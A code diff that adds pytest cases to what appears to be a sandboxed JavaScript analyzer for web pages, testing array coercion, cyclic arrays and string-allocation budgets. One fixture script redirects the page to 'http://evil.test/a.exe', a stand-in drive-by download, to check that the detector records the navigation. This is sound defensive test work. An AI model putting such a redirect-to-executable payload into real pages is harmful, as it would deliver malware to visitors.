@@ -216,6 +216,24 @@ class TestBuiltinBounds:
         assert not effects.complete
         assert effects.abort_reason == "string-bound"
 
+    @pytest.mark.parametrize("coercion", [
+        "var n = a / 2;",
+        "var b = (a < 1);",
+        "var n = a - 1 | 0;",
+    ])
+    def test_unknown_array_past_the_join_bound_numbers_without_a_join(self, coercion):
+        # ToNumber of an array of two or more elements is NaN whatever
+        # they hold: neither side builds the join, so both navigate
+        source = ("var a = []; a.length = 1999999; a[0] = location.href; %s "
+                  "location.href = 'http://evil.test/a.exe';" % coercion)
+        start = time.perf_counter()
+        log = run_script_in_page(_page(source)).log
+        assert time.perf_counter() - start < 0.2
+        assert (log.navigations, log.errors) == (["http://evil.test/a.exe"], [])
+        effects = interpret_script(source)
+        assert effects.complete
+        assert summary_page_observation(effects) == sandbox_page_observation(source)
+
     def test_nan_prelude_keeps_the_navigation(self):
         # a Python error from Math.floor(NaN) would end the script before
         # the navigation, in the sandbox and in the replayed summary
@@ -234,6 +252,51 @@ class TestBuiltinBounds:
         # split by a line break) would end the page's scan
         analysis = analyze_html(_page(source))
         assert analysis.script_count == 1
+
+
+class TestCyclicAndSharedArrays:
+    """An array that holds itself joins as '' (as browsers do) and makes
+    JSON.stringify throw a TypeError; an array holding one subarray many
+    times is joined once per conversion, so the string bound stops it
+    at once rather than after 2**40 joins.  The string of an array on a
+    cycle depends on where the cycle is entered, so it is not reused."""
+
+    @pytest.mark.parametrize("source, writes, error", [
+        ("var a = []; a[0] = a; document.write('x' + a);", ["x"], None),
+        ("var a = [1, 2]; a.push([a]); document.write(a.join('-') + '|' + (+a));",
+         ["1-2-|NaN"], None),
+        ("var a = [0, 1]; var b = [0, 2]; a[0] = b; b[0] = a; document.write('' + [a, b]);",
+         [",2,1,,1,2"], None),
+        ("var a = [0]; a[0] = a; document.write(+a + ' ' + (+[a, 1]));", ["0 NaN"], None),
+        ("document.write(+[true] + ' ' + +[undefined] + ' ' + +[-0] + ' ' + "
+         "+[[' 12 ']] + ' ' + +[1, 2] + ' ' + +[]);", ["NaN 0 0 12 NaN 0"], None),
+        ("var c = [1]; c.push(c); var a = [c]; for (var i = 0; i < 40; i++) a = [a, a]; "
+         "document.write('' + a);", [], "BudgetExceeded: string allocation limit"),
+        ("var a = []; a[0] = a; try { JSON.stringify(a); } "
+         "catch (e) { document.write('caught'); }", ["caught"], None),
+        ("var o = {}; o.me = [o]; document.write(JSON.stringify(o));", [], "TypeError"),
+        ("var a = [1]; for (var i = 0; i < 40; i++) a = [a, a]; document.write('' + a);",
+         [], "BudgetExceeded: string allocation limit"),
+    ])
+    def test_probe_is_js_and_fast_in_every_engine(self, source, writes, error):
+        for run in (lambda: run_script_in_page(_page(source)),
+                    lambda: interpret_script(source),
+                    lambda: analyze_html(_page(source))):
+            start = time.perf_counter()
+            run()
+            assert time.perf_counter() - start < 0.2
+        log = run_script_in_page(_page(source)).log
+        assert log.document_writes == writes
+        assert [e for e in log.errors if error is None or error not in e] == []
+        effects = interpret_script(source)
+        assert effects.complete
+        assert summary_page_observation(effects) == sandbox_page_observation(source)
+
+    def test_deep_nesting_needs_no_python_frames(self):
+        source = ("var a = [1]; for (var i = 0; i < 3000; i++) a = [a]; "
+                  "document.write(JSON.stringify(a).length + ('' + a));")
+        log = run_script_in_page(_page(source)).log
+        assert (log.document_writes, log.errors) == (["60031"], [])
 
 
 class TestStaticAnalyzerDepth:
